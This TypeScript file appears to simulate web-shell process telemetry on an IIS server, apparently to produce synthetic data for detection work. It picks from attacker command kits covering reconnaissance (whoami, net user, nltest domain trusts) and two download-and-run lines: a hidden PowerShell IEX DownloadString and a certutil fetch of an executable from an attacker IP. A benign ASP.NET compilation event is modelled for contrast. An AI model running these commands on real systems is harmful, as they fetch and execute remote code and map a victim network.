import type { Random } from "./Random.js";

/** A program started with its command line. */
export interface Launch {
  image: string;
  commandLine: string;
}

/** What runs in one go: a program (through a web shell, `cmd.exe`) and, for some, the program it starts. */
export interface CommandKit extends Launch {
  child: Launch | undefined;
}

const KITS: readonly ((ip: string) => CommandKit)[] = [
  () => ({
    image: "cmd.exe",
    commandLine: "cmd.exe /c whoami",
    child: { image: "whoami.exe", commandLine: "whoami" },
  }),
  () => ({
    image: "cmd.exe",
    commandLine: "cmd.exe /c ipconfig /all",
    child: { image: "ipconfig.exe", commandLine: "ipconfig  /all" },
  }),
  () => ({
    image: "cmd.exe",
    commandLine: "cmd.exe /c net user",
    child: { image: "net.exe", commandLine: "net  user" },
  }),
  () => ({ image: "cmd.exe", commandLine: "cmd.exe /c tasklist /v", child: undefined }),
  () => ({ image: "cmd.exe", commandLine: "cmd.exe /c systeminfo", child: undefined }),
  () => ({ image: "cmd.exe", commandLine: 'cmd.exe /c "cd /d c:\\inetpub\\wwwroot&dir"', child: undefined }),
  () => ({
    image: "cmd.exe",
    commandLine: "cmd.exe /c nltest /domain_trusts",
    child: { image: "nltest.exe", commandLine: "nltest  /domain_trusts" },
  }),
  (ip) => ({
    image: "cmd.exe",
    commandLine: `cmd.exe /c powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ip}/a.ps1')"`,
    child: {
      image: "powershell.exe",
      commandLine: `powershell  -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ip}/a.ps1')"`,
    },
  }),
  (ip) => ({
    image: "cmd.exe",
    commandLine: `cmd.exe /c certutil -urlcache -split -f http://${ip}/p.exe c:\\windows\\temp\\p.exe`,
    child: {
      image: "certutil.exe",
      commandLine: `certutil  -urlcache -split -f http://${ip}/p.exe c:\\windows\\temp\\p.exe`,
    },
  }),
];

/**
 * Distinct kits whose processes (each `cmd.exe` plus its child, if any) number at most `maxProcesses`, at least
 * one kit. The attacker's address appears in download commands, as it would.
 */
export function pickKits(
  random: Random,
  kitCount: number,
  maxProcesses: number,
  attackerIp: string,
): CommandKit[] {
  const kits: CommandKit[] = [];
  const used = new Set<number>();
  let processes = 0;
  for (let attempt = 0; kits.length < kitCount && attempt < 50; attempt++) {
    const index = random.int(KITS.length);
    const make = KITS[index];
    if (make === undefined || used.has(index)) continue;
    const kit = make(attackerIp);
    const size = kit.child === undefined ? 1 : 2;
    if (processes + size > maxProcesses) continue;
    used.add(index);
    kits.push(kit);
    processes += size;
  }
  return kits;
}

/**
 * What ASP.NET runs when a page is first requested after it changed (or was uploaded): the C# compiler, which runs
 * the resource converter. Routine on every ASP.NET server, and so a benign child of IIS (docs/design.md §4.12).
 */
export function aspnetCompilation(random: Random): CommandKit {
  const framework = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319";
  const dir = `${framework}\\Temporary ASP.NET Files\\root\\${random.hex(8)}\\${random.hex(8)}`;
  const name = random.hex(8);
  return {
    image: "csc.exe",
    commandLine: `"${framework}\\csc.exe" /noconfig /fullpaths @"${dir}\\${name}.cmdline"`,
    child: {
      image: "cvtres.exe",
      commandLine: `${framework}\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\\Windows\\TEMP\\RES${random.hex(4).toUpperCase()}.tmp" "${dir}\\CSC${random.hex(8).toUpperCase()}.TMP"`,
    },
  };
}
